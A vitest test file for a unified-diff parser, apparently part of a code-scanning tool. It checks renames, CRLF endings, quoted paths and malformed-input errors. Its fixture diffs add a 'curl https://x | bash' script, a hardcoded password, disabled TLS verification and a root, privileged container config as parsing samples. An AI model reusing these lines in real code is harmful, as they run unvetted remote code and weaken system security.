import { describe, expect, it } from 'vitest';
import { parseUnifiedDiff, unquote } from '../../src/engine/diff.js';
import { SentrikError } from '../../src/util/errors.js';

const lines = (m: Map<string, Set<number>>, p: string): number[] => [...(m.get(p) ?? [])].sort((a, b) => a - b);

describe('parseUnifiedDiff', () => {
  it('reads a multi-file git diff with a rename, a new file, a deletion and several hunks', () => {
    const diff = [
      'diff --git a/src/app.py b/src/app.py',
      'index 1111111..2222222 100644',
      '--- a/src/app.py',
      '+++ b/src/app.py',
      '@@ -1,3 +1,4 @@',
      ' import os',
      '-DEBUG = False',
      '+DEBUG = True',
      '+PASSWORD = "hunter2"',
      ' ',
      '@@ -10,2 +11,2 @@ def main():',
      '-    run()',
      '+    run(verify=False)',
      ' # end',
      '\\ No newline at end of file',
      'diff --git a/old/name.js b/new/name.js',
      'similarity index 90%',
      'rename from old/name.js',
      'rename to new/name.js',
      'index 3333333..4444444 100644',
      '--- a/old/name.js',
      '+++ b/new/name.js',
      '@@ -5 +5 @@',
      '-const a = 1;',
      '+const a = 2;',
      'diff --git a/moved.txt b/elsewhere/moved.txt',
      'similarity index 100%',
      'rename from moved.txt',
      'rename to elsewhere/moved.txt',
      'diff --git a/new.sh b/new.sh',
      'new file mode 100755',
      'index 0000000..5555555',
      '--- /dev/null',
      '+++ b/new.sh',
      '@@ -0,0 +1,2 @@',
      '+#!/bin/sh',
      '+curl https://x | bash',
      'diff --git a/gone.txt b/gone.txt',
      'deleted file mode 100644',
      'index 6666666..0000000',
      '--- a/gone.txt',
      '+++ /dev/null',
      '@@ -1,2 +0,0 @@',
      '-a',
      '-b',
      'diff --git a/logo.png b/logo.png',
      'index 7777777..8888888 100644',
      'Binary files a/logo.png and b/logo.png differ',
      '',
    ].join('\n');
    const m = parseUnifiedDiff(diff);
    expect([...m.keys()].sort()).toEqual(['elsewhere/moved.txt', 'logo.png', 'new.sh', 'new/name.js', 'src/app.py']);
    expect(lines(m, 'src/app.py')).toEqual([2, 3, 11]);
    expect(lines(m, 'new/name.js')).toEqual([5]);
    expect(lines(m, 'elsewhere/moved.txt')).toEqual([]);
    expect(lines(m, 'new.sh')).toEqual([1, 2]);
    expect(lines(m, 'logo.png')).toEqual([]);
  });

  it('handles CRLF line endings', () => {
    const diff = '--- a/x.txt\r\n+++ b/x.txt\r\n@@ -1,2 +1,2 @@\r\n a\r\n-b\r\n+c\r\n';
    expect(lines(parseUnifiedDiff(diff), 'x.txt')).toEqual([2]);
  });

  it('treats content lines that look like headers as content inside a hunk', () => {
    const diff = ['--- a/sql.sql', '+++ b/sql.sql', '@@ -1,2 +1,2 @@', '--- comment', '+++ counter', ' x', ''].join('\n');
    expect(lines(parseUnifiedDiff(diff), 'sql.sql')).toEqual([1]);
  });

  it('reads a plain diff -u with timestamps and an -U0 diff', () => {
    const diff = [
      '--- config.yml\t2024-01-01 10:00:00.000000000 +0000',
      '+++ config.yml\t2024-01-02 10:00:00.000000000 +0000',
      '@@ -3,0 +4,2 @@',
      '+privileged: true',
      '+user: root',
      '@@ -9 +11 @@',
      '-a',
      '+b',
    ].join('\n');
    expect(lines(parseUnifiedDiff(diff), 'config.yml')).toEqual([4, 5, 11]);
  });

  it('unquotes paths git quotes (spaces, non-ASCII)', () => {
    const diff = [
      'diff --git "a/d\\303\\251j\\303\\240 vu.txt" "b/d\\303\\251j\\303\\240 vu.txt"',
      '--- "a/d\\303\\251j\\303\\240 vu.txt"',
      '+++ "b/d\\303\\251j\\303\\240 vu.txt"',
      '@@ -1 +1 @@',
      '-a',
      '+b',
    ].join('\n');
    expect(lines(parseUnifiedDiff(diff), 'déjà vu.txt')).toEqual([1]);
    expect(unquote('"tab\\there \\"q\\" \\\\"')).toBe('tab\there "q" \\');
  });

  it('takes the path of a space-containing file from the diff --git header when there are no ---/+++ lines', () => {
    const diff = ['diff --git a/my file.txt b/my file.txt', 'old mode 100644', 'new mode 100755', ''].join('\n');
    expect([...parseUnifiedDiff(diff).keys()]).toEqual(['my file.txt']);
  });

  it('skips mail headers of a format-patch', () => {
    const diff = ['From 1234 Mon Sep 17 00:00:00 2001', 'Subject: [PATCH] fix', '---', ' a.txt | 2 +-', '', '--- a/a.txt', '+++ b/a.txt', '@@ -1 +1 @@', '-x', '+y', '-- ', '2.39.5', ''].join('\n');
    expect(lines(parseUnifiedDiff(diff), 'a.txt')).toEqual([1]);
  });

  it('returns nothing for an empty diff', () => {
    expect(parseUnifiedDiff('').size).toBe(0);
    expect(parseUnifiedDiff('\n').size).toBe(0);
  });

  it.each([
    ['a bad hunk header', '--- a/x\n+++ b/x\n@@ -1,2 +1,two @@\n', 3, /bad hunk header/],
    ['a truncated hunk', '--- a/x\n+++ b/x\n@@ -1,3 +1,3 @@\n a\n', 4, /ends inside a hunk/],
    ['a foreign line inside a hunk', '--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n a\n*b\n', 5, /unexpected line inside a hunk/],
    ['a hunk before any file', '@@ -1 +1 @@\n-a\n+b\n', 1, /hunk before any file header/],
    ['text that is not a diff', 'hello\nworld\n', 1, /no file header/],
    ['+++ without ---', 'diff --git a/x b/x\n+++ b/x\n', 2, /without a preceding/],
  ])('rejects %s with the diff line', (_name, text, line, message) => {
    let err: unknown;
    try {
      parseUnifiedDiff(text, 'changes.diff');
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(SentrikError);
    expect((err as SentrikError).file).toBe('changes.diff');
    expect((err as SentrikError).line).toBe(line);
    expect((err as SentrikError).message).toMatch(message);
  });
});
